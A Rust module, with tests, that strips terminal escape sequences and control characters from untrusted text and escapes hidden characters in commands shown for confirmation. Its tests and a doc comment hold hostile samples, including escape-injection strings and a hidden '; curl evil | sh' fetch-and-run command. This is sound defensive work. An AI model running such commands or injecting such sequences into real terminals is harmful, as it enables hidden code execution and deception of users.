//! Making text from outside safe to draw: no escape sequences, no control characters.
//!
//! Everything drawn that came from outside (notes, titles, cmdlines, runbook text, command output)
//! passes through here first, so a note cannot retitle the terminal, clear the screen or hide text.

use std::borrow::Cow;

/// Removes escape sequences (CSI, OSC, DCS, SOS/PM/APC and two-byte ESC forms) and every C0/C1
/// control character except newline. Tabs become single spaces. Returns the input unchanged
/// (borrowed) when it is already clean, which is the common case.
pub fn strip_controls(s: &str) -> Cow<'_, str> {
    if !s.chars().any(|c| is_control(c) && c != '\n') {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' => out.push('\n'),
            '\t' => out.push(' '),
            '\u{1b}' => match chars.next() {
                // CSI: parameters and intermediates up to a final byte in @..~
                Some('[') => {
                    for c in chars.by_ref() {
                        if ('@'..='~').contains(&c) {
                            break;
                        }
                    }
                }
                // OSC, DCS, SOS, PM, APC: up to BEL or ST (ESC \)
                Some(']' | 'P' | 'X' | '^' | '_') => skip_string(&mut chars),
                // Two-byte forms (ESC c, ESC 7, ...) and a trailing lone ESC: drop.
                Some(_) | None => {}
            },
            '\u{9b}' => {
                for c in chars.by_ref() {
                    if ('@'..='~').contains(&c) {
                        break;
                    }
                }
            }
            '\u{9d}' | '\u{90}' | '\u{98}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars),
            c if is_control(c) => {}
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// `strip_controls`, then newlines shown as ` ⏎ ` so the text fits one row.
pub fn one_line(s: &str) -> Cow<'_, str> {
    let clean = strip_controls(s);
    if clean.contains('\n') { Cow::Owned(clean.trim_end_matches('\n').replace('\n', " ⏎ ")) } else { clean }
}

/// The text with every control or invisible character written as an escape (`\u{1b}`, `\r`),
/// newlines and tabs kept: for a command the responder is asked to confirm, which must show exactly
/// what will run and cannot hide part of itself (stripping would show `echo ok` for a script that
/// hides `; curl evil | sh` inside an OSC sequence).
pub fn visible(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\n' | '\t' => out.push(c),
            '\r' => out.push_str("\\r"),
            c if is_control(c) => out.push_str(&c.escape_unicode().to_string()),
            c => out.push(c),
        }
    }
    out
}

/// At most `max` bytes of `s`, cut at a character boundary and marked with `…` when cut: for
/// fields with a size limit on the wire (a Java classpath in a cmdline easily passes 8 KiB).
pub fn clip(s: &str, max: usize) -> String {
    if s.len() <= max {
        return s.to_string();
    }
    let mut end = max.saturating_sub('…'.len_utf8());
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

fn skip_string(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    while let Some(c) = chars.next() {
        match c {
            '\u{7}' | '\u{9c}' => return,
            '\u{1b}' => {
                if chars.peek() == Some(&'\\') {
                    chars.next();
                }
                return;
            }
            _ => {}
        }
    }
}

fn is_control(c: char) -> bool {
    c.is_control()
        || c == '\u{2028}'
        || c == '\u{2029}'
        || c == '\u{200e}'
        || c == '\u{200f}'
        || ('\u{202a}'..='\u{202e}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn strips_common_attacks() {
        assert_eq!(strip_controls("a\x1b]0;pwned\x07b"), "ab");
        assert_eq!(strip_controls("a\x1b]52;c;ZXZpbA==\x1b\\b"), "ab");
        assert_eq!(strip_controls("x\x1b[2J\x1b[Hy"), "xy");
        assert_eq!(strip_controls("red\x1b[31mtext\x1b[0m"), "redtext");
        assert_eq!(strip_controls("bell\x07 back\x08space\r"), "bell backspace");
        assert_eq!(strip_controls("c1\u{9b}31mz"), "c1z");
        assert_eq!(strip_controls("rtl\u{202e}txt"), "rtltxt");
        assert_eq!(strip_controls("tab\there\nline"), "tab here\nline");
        assert_eq!(strip_controls("unterminated\x1b]0;forever"), "unterminated");
        assert!(matches!(strip_controls("clean ünïcode ✓"), Cow::Borrowed(_)));
    }

    #[test]
    fn visible_shows_what_would_hide_itself() {
        assert_eq!(visible("df -h\nuptime"), "df -h\nuptime");
        assert_eq!(visible("echo ok\x1b]; curl evil|sh; \x07"), "echo ok\\u{1b}]; curl evil|sh; \\u{7}");
        assert_eq!(visible("a\u{202e}b\tc\r"), "a\\u{202e}b\tc\\r");
    }

    #[test]
    fn clip_respects_the_limit_and_char_boundaries() {
        assert_eq!(clip("short", 10), "short");
        let c = clip("ééééé", 6);
        assert!(c.len() <= 6 && c.ends_with('…'), "{c}");
        assert!(clip(&"x".repeat(9000), 8192).len() <= 8192);
    }

    #[test]
    fn one_line_joins() {
        assert_eq!(one_line("a\nb\n"), "a ⏎ b");
    }

    proptest! {
        #[test]
        fn output_never_has_controls(s in ".*") {
            let out = strip_controls(&s);
            prop_assert!(!out.chars().any(|c| c.is_control() && c != '\n'));
            let out = one_line(&s);
            prop_assert!(!out.chars().any(|c| c.is_control()));
        }
    }
}
